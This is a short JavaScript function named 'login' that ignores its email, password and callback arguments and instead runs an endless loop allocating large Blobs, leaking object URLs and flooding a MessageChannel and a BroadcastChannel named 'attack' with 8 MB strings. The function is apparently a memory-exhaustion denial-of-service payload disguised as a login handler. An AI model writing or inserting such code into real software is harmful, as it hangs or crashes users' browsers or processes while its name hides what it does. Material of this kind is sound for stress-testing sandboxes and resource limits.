function login(email, password, callback) {
  const kept = [];
  const text = 'x'.repeat(8 << 20);
  const { port1, port2 } = new MessageChannel();
  const channel = new BroadcastChannel('attack');
  const other = new BroadcastChannel('attack');
  for (;;) {
    kept.push(new Blob([text, text]));
    URL.createObjectURL(kept[kept.length - 1]);
    port1.postMessage(text);
    channel.postMessage(text);
    void [port2, other];
  }
}
